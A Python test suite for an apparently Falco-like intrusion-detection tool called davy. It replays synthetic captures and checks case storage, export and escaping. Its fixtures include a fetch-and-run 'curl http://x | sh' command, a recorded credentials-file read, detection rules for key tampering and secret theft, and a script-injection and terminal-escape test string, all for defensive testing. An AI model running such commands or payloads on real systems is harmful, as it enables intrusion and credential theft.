# SPDX-License-Identifier: Apache-2.0
"""davy case from end to end: a capture replayed into a store, listed, shown, exported, closed; on SQLite and on a real PostgreSQL."""
import html.parser
import json
import os
import pathlib
import re
import signal
import subprocess
import sys
import tempfile
import time
import unittest
import uuid

import jsonschema

sys.path.append(str(pathlib.Path(__file__).resolve().parents[2] / 'src/sink'))
import check_formats
import captures as c
import postgres
import watching
from patience import PATIENCE, wait_for

DAVY = os.environ['DAVY']
SCHEMA = json.loads((pathlib.Path(__file__).parents[2] / 'docs/case-schema.json').read_text())
RULES = '''
- rule: Keys replaced
  desc: d
  condition: evt.type = openat and fd.name endswith authorized_keys and evt.is_open_write = true
  output: "keys by %proc.name <b>%proc.cmdline</b>"
  priority: CRITICAL
  tags: [kind:threat, axis:intent, by:behaviour, by:key, purpose:access, row:10, T1098.004, evidence:conclusive]
- rule: Dropped file
  desc: d
  condition: evt.type = openat and fd.name startswith /tmp/ and evt.is_open_write = true
  output: "wrote %fd.name"
  priority: WARNING
  tags: [kind:context, by:place]
- rule: Miner shape
  desc: d
  condition: evt.type = execve and proc.exepath startswith /tmp/
  output: "mines: %proc.exepath"
  priority: CRITICAL
  tags: [kind:threat, axis:intent, axis:harm, by:shape, purpose:mining, row:18, T1496.001, evidence:conclusive]
- rule: Secrets read
  desc: d
  condition: evt.type = openat and fd.name endswith credentials
  output: "read %fd.name"
  priority: ERROR
  tags: [kind:threat, axis:harm, by:behaviour, purpose:theft, row:28, T1552.001]
- rule: Service spawns a shell
  desc: d
  condition: evt.type = execve and proc.name = sh and proc.cmdline contains curl
  output: "%proc.pname spawned %proc.cmdline"
  priority: ERROR
  tags: [kind:threat, axis:intent, by:behaviour, purpose:access, row:27, T1190]
'''
S = 1_000_000_000
HOSTILE = '\x1b[2J<script>alert(1)</script>"\'&\u202e\u2028'


class Checker(html.parser.HTMLParser):
    """No script, nothing from elsewhere, every tag closed that must be."""
    VOID = {'meta', 'br', 'rect', 'circle', 'line', 'path'}

    def __init__(self):
        super().__init__()
        self.open, self.seen = [], set()

    def handle_starttag(self, tag, attrs):
        self.seen.add(tag)
        for name, value in attrs:
            assert not name.startswith('on') and 'src' != name, (tag, name)
            assert name != 'href' or value.startswith('#'), value
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.seen.add(tag)

    def handle_endtag(self, tag):
        assert self.open and self.open[-1] == tag, (tag, self.open[-5:])
        self.open.pop()


def intrusion():
    """redis runs a shell, which drops a program; cron runs that one later, in another line of processes."""
    return [
        c.execve('/usr/bin/redis-server', ['redis-server'], comm='redis-server', pid=50, ppid=1, start=50, time=1 * S),
        c.execve('/bin/sh', ['sh', '-c', 'curl http://x | sh ' + HOSTILE], comm='sh', pid=100, ppid=50, pstart=50, start=500, time=2 * S),
        c.openat('/tmp/x', flags=1, comm='sh', pid=100, ppid=50, pstart=50, start=500, time=3 * S),
        c.openat('/root/.aws/credentials', comm='sh', pid=100, ppid=50, pstart=50, start=500, time=4 * S),
        c.execve('/tmp/x', ['x'], comm='x', pid=900, ppid=1, start=900, time=60 * S),
        c.openat('/root/.ssh/authorized_keys', flags=1, comm='tidy', pid=7000, ppid=1, start=7000, time=61 * S),
    ]


class Cases(unittest.TestCase):
    def setUp(self):
        signal.signal(signal.SIGALRM, self.too_long)
        signal.alarm(3 * PATIENCE)
        self.addCleanup(signal.alarm, 0)
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)
        self.rules = self.folder / 'rules.yaml'
        self.rules.write_text(RULES)
        self.env = {**os.environ, 'TZ': 'UTC', 'LC_ALL': 'C.UTF-8'}
        self.env.pop('DAVY_STORE', None)
        self.store = self.place()

    def place(self):
        return str(self.folder / 'davy.db')

    def too_long(self, *args):
        raise AssertionError('this takes too long')

    def davy(self, *args, code=0, **more):
        done = subprocess.run([DAVY, *map(str, args)], env={**self.env, **more.pop('env', {})}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              timeout=PATIENCE, **more)
        self.assertEqual(done.returncode, code, done.stderr.decode())
        return done.stdout.decode()

    def case(self, *args, **more):
        return self.davy('case', args[0], '--store', self.store, *args[1:], **more)

    def replay(self, *records, name='a.davycap'):
        path = c.capture(self.folder / name, *records)
        self.davy('replay', '-q', '-r', self.rules, '--store', self.store, '-f', 'json=/dev/null', path)

    def listed(self, *args):
        return json.loads(self.case('list', '-f', 'json', *args))['cases']

    def export(self, number):
        whole = json.loads(self.case('export', number))
        jsonschema.validate(whole, SCHEMA)
        return whole

    def test_one_intrusion_and_an_unrelated_act_are_two_cases(self):
        self.replay(*intrusion())
        cases = self.listed()
        self.assertEqual([(k['verdict'], k['purposes']) for k in cases], [('unwanted', ['access']), ('malicious', ['mining', 'access', 'theft'])])
        whole = self.export(cases[1]['id'])
        self.assertEqual([f['rule'] for f in whole['findings']], ['Service spawns a shell', 'Dropped file', 'Secrets read', 'Miner shape'])
        self.assertEqual((whole['ways_in'][0]['rule'], whole['ways_in'][0]['strength']), ('Service spawns a shell', 'strong'))
        self.assertIn('/root/.aws/credentials', [r['path'] for r in whole['at_risk']])
        self.assertEqual([s['step'] for s in whole['next']], ['isolate', 'preserve', 'redeploy', 'rotate'])
        self.assertEqual([p['name'] for p in whole['findings'][0]['line']], ['sh', 'redis-server'])

    def test_what_is_not_listed_crowds_nothing_out(self):
        """Cases of context alone and closed ones are newer than the intrusion; it is listed all the same, and what --most leaves out is told."""
        others = [c.openat(f'/tmp/note{i}', flags=1, comm='editor', pid=20000 + i, ppid=1, start=20000 + i, time=(100 + i) * S) for i in range(130)]
        keys = [c.openat(f'/home/u{i}/.ssh/authorized_keys', flags=1, comm='tidy', pid=9000 + i, ppid=1, start=9000 + i, time=(300 + i) * S) for i in range(2)]
        self.replay(*intrusion(), *others, *keys)
        self.assertEqual(len(self.listed('--all', '--most', '1000')), 134)
        newest = self.listed('--most', '1')[0]['id']
        self.case('close', '--reason', 'redeployed', newest)
        self.assertEqual(len(self.listed()), 3)
        said = self.case('list', '--most', '2')
        self.assertEqual(len(said.splitlines()), 3, said)
        self.assertIn('older cases are not shown', said)
        self.assertNotIn('older cases', self.case('list', '--most', '3'))

    def test_what_people_see(self):
        self.replay(*intrusion())
        text = self.case('show', 1)
        self.assertIn('USD a day, estimated for 100 %', text)
        for part in ('Case 1', 'OPEN', 'MALICIOUS', 'against the owner\'s intent ●●●', 'The way in', 'Timeline', '22:14:20', 'At risk here too',
                     'isolate', 'preserve', 'redeploy', 'cannot be closed as cleaned', 'redis-server(50)'):
            self.assertIn(part, text)
        for bad in ('\x1b', '\u202e', '\u2028'):
            self.assertNotIn(bad, text)
        rules = re.findall(r'^   \d\d:\d\d:\d\d   (?:CRITICAL|HIGH|MEDIUM|LOW) +(?=[A-Z][a-z])', text, re.M)
        self.assertGreater(len(set(map(str.strip, rules))), 1)
        self.assertEqual({len(r) for r in rules}, {24}, 'names of rules stand in one column')
        self.assertTrue(all(len(l) <= 80 for l in self.case('show', 1, env={'COLUMNS': '80'}).splitlines()))
        self.assertIn('MALICIOUS', self.case('list').splitlines()[1])

    def test_messages_of_shipped_rules_in_japanese(self):
        """A finding is told as its shipped rule is told in that language; one of another rule of the same name stays as it was said."""
        def line(second, message, **fields):
            return json.dumps({'time': f'2026-01-01T00:00:0{second}Z', 'rule': 'Flood of datagrams sent', 'priority': 'Warning', 'hostname': 'db-3',
                               'message': message, 'kind': 'threat', 'axes': ['intent'], 'event': 'send', 'num': second,
                               'subject': {'process': 'x', 'pid': 7}, 'ties': {'line': [{'pid': 7, 'start': 1, 'name': 'x', 'exe': '/x'}]},
                               'output_fields': {**fields, 'container.id': 'host', 'evt.time': 1767225600_000000000 + second * S}})
        values = {'fd.rip': '203.0.113.7', 'fd.rport': 53, 'proc.cmdline': 'x 50%', 'proc.exepath': None}
        lines = [line(1, '203.0.113.7:53 · by x 50% (<NA>) container_id=host container_name=host', **values), line(2, 'mine says: x', **values)]
        self.case('ingest', input='\n'.join(lines).encode())
        for args in (('show', 1), ('export', 1, '-f', 'html')):
            english, japanese = (self.case(*args, env={'LC_ALL': language}) for language in ('C.UTF-8', 'ja_JP.UTF-8'))
            self.assertEqual([english.count(words) for words in ('203.0.113.7:53 · by x 50% (', 'mine says: x', '実行元')], [1, 1, 0], english)
            self.assertEqual([japanese.count(words) for words in ('by x', 'mine says: x', '203.0.113.7:53 · 実行元 x 50%')], [0, 1, 1], japanese)
        self.assertEqual(*(self.case('export', 1, env={'LC_ALL': language}) for language in ('C.UTF-8', 'ja_JP.UTF-8')))

    def test_a_page_that_needs_nothing_and_runs_nothing(self):
        self.replay(*intrusion())
        page = self.folder / 'case.html'
        self.case('export', 1, '--format', 'html', '--output', page)
        text = page.read_text()
        self.assertEqual(page.stat().st_mode & 0o777, 0o600)
        self.assertEqual(re.findall(r'href="#([a-z]+)"', text), ['main', 'next'], 'past the head, and to what to do')
        self.assertEqual(re.findall(r'id="(main|next)"', text), ['main', 'next'])
        self.assertEqual(check_formats.check_html(page.read_bytes()), [])
        checker = Checker()
        checker.feed(text)
        self.assertEqual(checker.open, [])
        self.assertNotIn('script', checker.seen)
        self.assertGreaterEqual(text.count('<svg'), 4)
        self.assertIn('&lt;script&gt;', text)
        for bad in ('\x1b', '\u202e', '\u2028', 'http-equiv="refresh"'):
            self.assertNotIn(bad, text)
        self.case('export', 1, '--output', page, code=3)

    def test_the_live_text_tells_the_case(self):
        path = c.capture(self.folder / 'a.davycap', *intrusion())
        said = self.davy('replay', '-q', '-r', self.rules, '--store', self.store, path)
        heads = [line for line in said.splitlines() if 'case ' in line]
        self.assertEqual([line.rsplit('   ', 1)[-1].strip() for line in heads],
                         ['case 1 opened', '↑ case 1', '↑ case 1', '↑ case 1', 'case 2 opened'])
        self.assertNotIn('case', self.davy('replay', '-q', '-r', self.rules, path))

    def test_repeats_are_one_finding_with_a_count(self):
        self.replay(*[c.openat('/root/.aws/credentials', comm='sh', time=i * 20 * S) for i in range(1, 40)])
        whole = self.export(1)
        self.assertEqual([(f['rule'], f['count']) for f in whole['findings']], [('Secrets read', 39)])
        self.assertEqual(whole['seen'], 39)

    def test_it_goes_on_after_a_restart_and_after_it_was_closed(self):
        parts = intrusion()
        self.replay(*parts[:4])
        self.replay(*parts[:1], *parts[4:5], name='b.davycap')
        self.assertEqual(len(self.listed()), 1)
        self.case('note', 1, 'isolated', HOSTILE.replace('\x1b', '\x07'))
        self.case('close', 1, '--reason', ' Cleaned. ', code=2)
        self.case('close', 1, code=2)
        self.case('close', 1, '--reason', 'redeployed')
        self.case('close', 1, '--reason', 'again', code=3)
        self.case('note', 99, 'x', code=3)
        self.assertEqual(self.listed(), [])
        self.assertEqual([(k['status'], k['reason']) for k in self.listed('--all')], [('closed', 'redeployed')])
        self.assertIn('isolated', self.case('show', 1))
        self.assertNotIn('\x07', self.case('show', 1))
        self.replay(*parts[:1], *parts[4:5], name='c.davycap')
        new = self.listed()
        self.assertEqual([(k['id'], k['follows']) for k in new], [(2, 1)])

    def test_a_store_that_cannot_be_ends_a_replay(self):
        path = c.capture(self.folder / 'a.davycap', *intrusion())
        done = subprocess.run([DAVY, 'replay', '-q', '-r', self.rules, '--store', self.folder, path], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.assertEqual((done.returncode, done.stdout), (3, b''))
        self.assertIn(b'is no file', done.stderr)

    def test_cleaned_is_no_reason_however_it_is_said(self):
        self.replay(*intrusion())
        for words in ('cleaned', 'Cleaned up.', 'we cleaned it up', 'malware removed, everything clean now!', '駆除しました。', ' \n'):
            self.case('close', '--reason', words, 1, code=2)
        self.assertEqual(len(self.listed()), 2)
        self.case('close', '--reason', 'cleaned, then redeployed from a new image', 1)
        self.case('close', '--reason', 'false alarm', 2)
        self.assertEqual(self.listed(), [])

    def test_an_empty_note_is_none(self):
        self.replay(*intrusion())
        self.case('note', 1, ' ', code=2)
        self.case('note', 1, '', '', code=2)
        self.assertEqual(self.export(1)['notes'], [])

    def test_nothing_is_written_over(self):
        self.replay(*intrusion())
        page = self.folder / 'page.html'
        self.case('export', 1, '--format', 'html', '--output', page)
        before = page.read_bytes()
        done = subprocess.run([DAVY, 'case', 'export', '--store', self.store, '1', '--output', page], env=self.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
        self.assertEqual((done.returncode, page.read_bytes()), (3, before))
        self.assertIn(b'name another file', done.stderr)

    def test_mistakes_are_told(self):
        self.case('list', code=3)
        self.case('show', 'x', code=2)
        self.case('show', code=2)
        self.davy('case', 'nonsense', code=2)
        self.davy('case', code=2)
        self.davy('case', '--help')

    def ingest(self, **more):
        p = subprocess.Popen([DAVY, 'case', 'ingest', '--for-watch', '--store', self.store], env=self.env, stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, **more)
        self.addCleanup(p.stdout.close)
        self.addCleanup(p.stdin.close)
        self.addCleanup(p.wait)
        self.addCleanup(p.kill)
        self.assertEqual(p.stdout.readline(), b'ready\n')
        return p

    @staticmethod
    def line(n):
        return json.dumps({'rule': f'r{n}', 'priority': 'Critical', 'kind': 'threat', 'num': n, 'hostname': 'h', 'message': f'word{n}x',
                           'output_fields': {'evt.time': n * S}, 'subject': {'process': f'p{n}', 'container_id': 'c1'}}).encode() + b'\n'

    def committed(self):
        return {f['rule'] for f in self.export(1)['findings']} if self.listed('--all') else set()

    def test_what_was_committed_survives_a_kill(self):
        """Lines go in as fast as they are taken; what a reader has seen once is there, whatever happens to the writer."""
        p = self.ingest()
        given = 0
        begin = time.monotonic()
        while time.monotonic() - begin < 1.0:
            given += 1
            p.stdin.write(self.line(given))
            p.stdin.flush()
            time.sleep(0.002)
        wait_for(lambda: self.committed() >= {f'r{n}' for n in range(1, given + 1)})
        for n in range(given + 1, given + 200):  # some of these are in flight
            p.stdin.write(self.line(n))
        p.stdin.flush()
        p.send_signal(signal.SIGKILL)
        p.wait()
        found = self.committed()
        self.assertEqual([n for n in range(1, given + 1) if f'r{n}' not in found], [])
        again = self.ingest()
        again.stdin.write(self.line(5000))
        again.stdin.close()
        self.assertEqual(again.wait(PATIENCE), 0)
        self.assertIn('r5000', {f['rule'] for f in self.export(1)['findings']})
        self.assertEqual(len(self.listed('--all')), 1)

    def test_two_machines_in_one_store_are_two_cases(self):
        """The same process id, start, container and file at the same time on two machines, written by two watchers at once."""
        def line(host, n):
            return json.dumps({'rule': f'{host}-{n}', 'priority': 'Critical', 'kind': 'threat', 'num': n, 'hostname': host, 'message': f'{host} {n}',
                               'output_fields': {'evt.time': n * S}, 'subject': {'process': 'x', 'pid': 60, 'container_id': 'c1', 'exe': '/tmp/x'},
                               'ties': {'line': [{'pid': 60, 'session': 60, 'start': 6, 'name': 'x', 'exe': '/tmp/x'}], 'written': ['/tmp/x']}}).encode() + b'\n'
        writers = {host: self.ingest() for host in ('web1', 'web2')}
        for n in range(1, 21):
            for host, p in writers.items():
                p.stdin.write(line(host, n))
                p.stdin.flush()
        for p in writers.values():
            p.stdin.close()
            self.assertEqual(p.wait(PATIENCE), 0)
        cases = [self.export(c['id'])['findings'] for c in self.listed('--all')]
        self.assertEqual(sorted(sorted(f['rule'] for f in found) for found in cases),
                         [sorted(f'{host}-{n}' for n in range(1, 21)) for host in ('web1', 'web2')])

    def test_lines_that_are_no_findings_are_left_out(self):
        lines = b'nonsense\n' + self.line(1) + b'{}\n[1,2]\n' + b'x' * 1_000_000 + b'\n' + self.line(2)[:-1]
        self.davy('case', 'ingest', '--store', self.store, code=3, input=lines)
        self.assertEqual(self.export(1)['seen'], 2)

    def test_the_writer_is_of_no_terminal(self):
        """^C reaches all processes of a terminal: the writer goes on until its input ends."""
        p = self.ingest()
        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            p.send_signal(s)
        p.stdin.write(self.line(1))
        p.stdin.close()
        self.assertEqual(p.wait(PATIENCE), 0)
        self.assertEqual(self.export(1)['seen'], 1)


class CasesOnPostgres(Cases):
    """The same on the other store."""
    @classmethod
    def setUpClass(cls):
        why = postgres.missing()
        if why:
            raise unittest.SkipTest(why)
        cls.server = postgres.Server()
        cls.addClassCleanup(cls.server.stop)

    def place(self):
        return self.server.new_database()

    def test_the_server_may_be_away_for_a_while(self):
        p = self.ingest(stderr=subprocess.DEVNULL)
        p.stdin.write(self.line(1))
        p.stdin.flush()
        time.sleep(1)
        self.server.halt()
        p.stdin.write(self.line(2))
        p.stdin.flush()
        time.sleep(1)
        self.server.start()
        p.stdin.write(self.line(3))
        p.stdin.close()
        self.assertEqual(p.wait(PATIENCE), 0)
        self.assertEqual({f['rule'] for f in self.export(1)['findings']}, {'r1', 'r2', 'r3'})

    def test_a_password_is_not_shown(self):
        done = subprocess.run([DAVY, 'case', 'list', '--store', 'postgres://u:hunter2@127.0.0.1:1/x'], env=self.env, stderr=subprocess.PIPE)
        self.assertEqual(done.returncode, 3)
        self.assertNotIn(b'hunter2', done.stderr)


class CasesOfALiveWatch(unittest.TestCase):
    """What was found is kept, also when the watcher is killed at once."""
    def listed(self, store):
        done = subprocess.run([DAVY, 'case', 'list', '--all', '-f', 'json', '--store', store], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        return done.returncode == 0 and json.loads(done.stdout)['cases']

    def test_a_watcher_that_is_killed(self):
        fine, why = watching.can_watch()
        if not fine:
            self.skipTest(why)
        word = f'davy{uuid.uuid4().hex[:12]}'
        with tempfile.TemporaryDirectory() as name:
            folder = pathlib.Path(name)
            rules, store = folder / 'rules.yaml', folder / 'davy.db'
            rules.write_text(watching.SEEN.format(word=word).replace('DEBUG', 'WARNING'))
            w = watching.Watcher(folder, [rules], '--store', store)
            try:
                child = subprocess.Popen(['sh', '-c', f': {word}; read x'], stdin=subprocess.PIPE)
                wait_for(lambda: any(word in f['output'] for f in w.findings()))
                # it is written down first and stored then: what it was about to give away when it was killed would be lost
                wait_for(lambda: self.listed(store), lambda: w.said)
            finally:
                w.kill()
            child.communicate()
            cases = wait_for(lambda: self.listed(store))
            self.assertEqual(len(cases), 1)
            whole = json.loads(subprocess.run([DAVY, 'case', 'export', str(cases[0]['id']), '--store', store], stdout=subprocess.PIPE, check=True).stdout)
            line = whole['findings'][0]['line']
            self.assertEqual([p['pid'] for p in line[:2]], [child.pid, os.getpid()])
            self.assertTrue(all(p['start'] for p in line[:2]))


if __name__ == '__main__':
    unittest.main(verbosity=2)
